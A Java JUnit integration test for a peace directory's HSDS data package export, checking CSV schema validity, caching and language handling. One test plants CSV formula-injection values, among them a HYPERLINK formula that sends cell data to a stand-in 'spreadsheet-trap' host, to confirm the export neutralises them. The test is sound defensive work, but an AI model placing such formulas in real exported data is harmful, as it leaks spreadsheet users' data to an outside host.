package org.peacedirectory.api.hsds;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.peacedirectory.Await;
import org.peacedirectory.DirectoryTest;
import org.peacedirectory.api.ApiLimits;
import org.peacedirectory.moderation.Approvals;
import org.peacedirectory.organisation.HostileProfiles;
import org.peacedirectory.system.DataLicence;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.core.io.ClassPathResource;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The HSDS tabular data package over real HTTP: a Frictionless Tabular Data Package whose resources are
 * HSDS 3.0's (compared with HSDS's own datapackage.json), every CSV row valid against HSDS's schema of its
 * object; made again after an approval, not per request.
 */
@DirectoryTest
class HsdsDataPackageTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Duration REMADE_WITHIN = Duration.ofSeconds(30);

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ApplicationContext app;

    @Autowired
    HsdsPackageRefresh refresh;

    @Autowired
    HsdsPackages packages;

    @Autowired
    HostileProfiles profiles;

    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void upToDate() throws Exception {
        ApiLimits.clear(app);
        refresh.awaitRounds();
        packages.remake(Locale.ENGLISH); // what other tests changed behind the application's back too
    }

    @Test
    void isAnHsdsTabularDataPackageOfEveryPublishedOrganisation() throws Exception {
        HttpResponse<byte[]> download = download("en", Map.of());

        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.headers().firstValue("Content-Type")).hasValue("application/zip");
        assertThat(download.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"peace-directory-hsds-en.zip\"");
        assertThat(download.headers().allValues("Link")).contains(DataLicence.LINK_HEADER);
        PackageFiles files = PackageFiles.of(download.body());
        JsonNode descriptor = JSON.readTree(files.text("datapackage.json"));
        HsdsSchemas.assertValid(HsdsSchemas.TABULAR_DATA_PACKAGE, descriptor);
        assertThat(descriptor.get("licenses").get(0).get("path").asString()).isEqualTo(DataLicence.URL);

        JsonNode hsds = JSON.readTree(new ClassPathResource("hsds-3.0/datapackage.json").getContentAsByteArray());
        Set<String> present = descriptor
                .get("resources")
                .valueStream()
                .map(resource -> resource.get("name").asString())
                .collect(Collectors.toSet());
        ObjectNode wholePackage = JSON.createObjectNode(); // every table as an array of rows, as tabular.json has it
        for (JsonNode resource : descriptor.get("resources")) {
            JsonNode theirs = resourceNamed(hsds, resource.get("name").asString());
            ArrayNode table = wholePackage.putArray(resource.get("name").asString());
            files.rows(resource.get("path").asString()).forEach(row -> table.add(typed(row, theirs)));
            assertSameResource(resource, theirs, present);
            String path = resource.get("path").asString();
            assertThat(files.header(path)).as(path).containsExactlyElementsOf(fieldNames(resource));
            assertThat(files.text(path)).as(path).doesNotStartWith("\uFEFF");
            List<Map<String, String>> rows = files.rows(path);
            for (Map<String, String> row : rows) {
                HsdsSchemas.assertValid(
                        "classpath:hsds-3.0/" + resource.get("name").asString() + ".json", typed(row, theirs));
            }
            assertThat(rows.stream().map(row -> row.get("id")).distinct().count())
                    .as("unique ids in " + path)
                    .isEqualTo(rows.size());
        }

        HsdsSchemas.assertValid(HsdsSchemas.TABULAR, wholePackage);

        Set<String> organisations = ids(files.rows("organizations.csv"));
        assertThat(organisations)
                .containsExactlyInAnyOrderElementsOf(
                        jdbc.sql("select uuid::text from organisation where publication_status = 'PUBLISHED'")
                                .query(String.class)
                                .list());
        Set<String> terms = ids(files.rows("taxonomy_terms.csv"));
        Set<String> locations = ids(files.rows("locations.csv"));
        Set<String> linked = new HashSet<>(organisations);
        linked.addAll(locations);
        List<Map<String, String>> attributes = files.rows("attributes.csv");
        assertThat(attributes).allSatisfy(attribute -> {
            assertThat(terms).contains(attribute.get("taxonomy_term_id"));
            assertThat(linked).contains(attribute.get("link_id"));
        });
        // No term that nothing uses, and every term's taxonomy is there
        assertThat(attributes.stream().map(attribute -> attribute.get("taxonomy_term_id")))
                .containsAll(terms);
        assertThat(ids(files.rows("taxonomies.csv")))
                .containsAll(files.rows("taxonomy_terms.csv").stream()
                        .map(term -> term.get("taxonomy_id"))
                        .toList());
        assertThat(files.rows("locations.csv"))
                .allSatisfy(location -> assertThat(organisations).contains(location.get("organization_id")));
        assertThat(files.rows("metadata.csv"))
                .allSatisfy(metadata -> assertThat(organisations).contains(metadata.get("resource_id")));
    }

    @Test
    void keepsTheReferenceProfilesActivitiesWithTheirPartialDates() throws Exception {
        PackageFiles files = PackageFiles.of(download("en", Map.of()).body());
        String conascipal = jdbc.sql("select uuid::text from organisation where slug = 'conascipal'")
                .query(String.class)
                .single();
        Map<String, String> levels = files.rows("taxonomy_terms.csv").stream()
                .filter(term -> !term.get("code").isEmpty())
                .collect(Collectors.toMap(term -> term.get("id"), term -> term.get("code")));

        List<String> activities = files.rows("attributes.csv").stream()
                .filter(attribute -> attribute.get("link_id").equals(conascipal))
                .filter(attribute -> attribute.get("link_type").equals("activity"))
                .map(attribute -> {
                    JsonNode value = JSON.readTree(attribute.get("value"));
                    return levels.get(attribute.get("taxonomy_term_id")) + " "
                            + (value.has("date") ? value.get("date").asString() : "-") + " "
                            + value.get("text").asString() + " "
                            + value.get("language").asString();
                })
                .toList();

        assertThat(activities)
                .isNotEmpty()
                .containsExactlyElementsOf(jdbc.sql("""
                        select a.level || ' ' || coalesce(a.date_edtf, '-') || ' ' || a.text || ' ' || a.language
                        from activity a join organisation o on o.id = a.organisation_id
                        where o.slug = 'conascipal' order by a.position""").query(String.class).list())
                .anyMatch(activity -> activity.startsWith("NATIONAL 1999-05 "))
                .anyMatch(activity -> activity.startsWith("NATIONAL 2002/2003 "))
                .anyMatch(activity -> activity.startsWith("INTERNATIONAL - "));
    }

    @Test
    void isMadeAgainAfterAnApprovalAndNotForEachDownload() throws Exception {
        HttpResponse<byte[]> first = download("en", Map.of());
        Instant made = generatedAt();
        HttpResponse<byte[]> second = download("en", Map.of());
        HttpResponse<byte[]> unchanged = download(
                "en", Map.of("If-None-Match", first.headers().firstValue("ETag").orElseThrow()));

        assertThat(second.headers().firstValue("ETag"))
                .isEqualTo(first.headers().firstValue("ETag"));
        assertThat(second.headers().firstValue("Last-Modified"))
                .isEqualTo(first.headers().firstValue("Last-Modified"));
        assertThat(second.body()).isEqualTo(first.body());
        assertThat(generatedAt()).isEqualTo(made);
        assertThat(unchanged.statusCode()).isEqualTo(304);
        assertThat(unchanged.body()).isEmpty();

        String name = "Approved for HSDS " + UUID.randomUUID().toString().substring(0, 8);
        Approvals.approveNew(app, port, name);
        Await.within(REMADE_WITHIN, "the package holds the approved organisation", () -> stored().contains(name));

        HttpResponse<byte[]> after = download("en", Map.of());
        assertThat(PackageFiles.of(after.body()).text("organizations.csv")).contains(name);
        assertThat(after.headers().firstValue("ETag"))
                .isNotEqualTo(first.headers().firstValue("ETag"));
        // Kept to the second, as Last-Modified says it: a remake within the same second keeps the time.
        assertThat(generatedAt()).isAfterOrEqualTo(made);
    }

    @Test
    void neutralisesCellsThatASpreadsheetWouldRunAndServesTheLanguageAskedFor() throws Exception {
        String slug = "hsds-formulas-" + UUID.randomUUID().toString().substring(0, 8);
        String name = "=HYPERLINK(\"https://spreadsheet-trap.example/?\"&A1, \"Open\") " + slug;
        profiles.publish(new HostileProfiles.Texts(
                slug,
                name,
                "+A1",
                "-2+3 " + slug,
                "A description.",
                "Kolda",
                "Network " + slug,
                "N" + slug.substring(14),
                "https://example.org/" + slug,
                "https://example.org/link/" + slug));
        Await.within(REMADE_WITHIN, "the package holds the published organisation", () -> stored().contains(slug));

        PackageFiles english = PackageFiles.of(download("en", Map.of()).body());
        Map<String, String> row = english.rows("organizations.csv").stream()
                .filter(organisation -> organisation.get("uri").endsWith("/organisations/" + slug))
                .findFirst()
                .orElseThrow();
        assertThat(row.get("name")).isEqualTo("'" + name);
        assertThat(row.get("alternate_name")).isEqualTo("'+A1");
        assertThat(row.get("description")).startsWith("'-2+3 ");
        assertThat(english.rows("phones.csv").stream().map(phone -> phone.get("number")))
                .contains("'+223 20 00 00 00");

        HttpResponse<byte[]> french = download("fr", Map.of());
        assertThat(french.headers().firstValue("Content-Language")).hasValue("fr");
        assertThat(french.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"peace-directory-hsds-fr.zip\"");
        assertThat(PackageFiles.of(french.body()).rows("taxonomies.csv").stream()
                        .map(taxonomy -> taxonomy.get("name")))
                .contains("Vérification");
    }

    /** HSDS's resource of that name, whose fields ours must have. */
    private static JsonNode resourceNamed(JsonNode hsds, String name) {
        return hsds.get("resources")
                .valueStream()
                .filter(resource -> resource.get("name").asString().equals(name))
                .findFirst()
                .orElseThrow(() -> new AssertionError("HSDS has no resource " + name));
    }

    /**
     * The same path and fields (names in order, types, formats, required) as HSDS's, and HSDS's foreign keys
     * to the resources the package has.
     */
    private static void assertSameResource(JsonNode ours, JsonNode theirs, Set<String> present) {
        String name = ours.get("name").asString();
        assertThat(ours.get("path").asString())
                .as(name)
                .isEqualTo(theirs.get("path").asString());
        assertThat(fieldNames(ours)).as(name).containsExactlyElementsOf(fieldNames(theirs));
        for (int i = 0; i < ours.get("schema").get("fields").size(); i++) {
            JsonNode field = ours.get("schema").get("fields").get(i);
            JsonNode their = theirs.get("schema").get("fields").get(i);
            String what = name + "." + field.get("name").asString();
            assertThat(field.get("type").asString())
                    .as(what)
                    .isEqualTo(their.get("type").asString());
            assertThat(field.path("format").asString(""))
                    .as(what)
                    .isEqualTo(their.path("format").asString(""));
            assertThat(field.get("constraints").get("required").asBoolean())
                    .as(what)
                    .isEqualTo(their.get("constraints").get("required").asBoolean());
        }
        List<String> theirKeys = theirs.get("schema")
                .path("foreignKeys")
                .valueStream()
                .filter(key ->
                        present.contains(key.get("reference").get("resource").asString()))
                .map(JsonNode::toString)
                .toList();
        assertThat(ours.get("schema").path("foreignKeys").valueStream().map(JsonNode::toString))
                .as(name)
                .containsExactlyInAnyOrderElementsOf(theirKeys);
    }

    private static List<String> fieldNames(JsonNode resource) {
        return resource.get("schema")
                .get("fields")
                .valueStream()
                .map(field -> field.get("name").asString())
                .toList();
    }

    /** A CSV row as the JSON object it stands for: empty cells absent, numbers as numbers (HSDS's types). */
    private static JsonNode typed(Map<String, String> row, JsonNode resource) {
        ObjectNode object = JSON.createObjectNode();
        for (JsonNode field : resource.get("schema").get("fields")) {
            String value = row.getOrDefault(field.get("name").asString(), "");
            if (!value.isEmpty()) {
                if (field.get("type").asString().equals("number")) {
                    object.put(field.get("name").asString(), new BigDecimal(value));
                } else {
                    object.put(field.get("name").asString(), value);
                }
            }
        }
        return object;
    }

    private static Set<String> ids(List<Map<String, String>> rows) {
        return rows.stream().map(row -> row.get("id")).collect(Collectors.toSet());
    }

    private Instant generatedAt() {
        return jdbc.sql("select generated_at from hsds_package where language = 'en'")
                .query(java.sql.Timestamp.class)
                .single()
                .toInstant();
    }

    /** The English package as stored, every file's text: what the next download will give. */
    private String stored() {
        return PackageFiles.of(jdbc.sql("select content from hsds_package where language = 'en'")
                        .query(byte[].class)
                        .single())
                .allText();
    }

    private HttpResponse<byte[]> download(String language, Map<String, String> headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create("http://localhost:" + port + "/api/hsds/datapackage.zip"))
                .header("Accept-Language", language);
        headers.forEach(request::header);
        return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
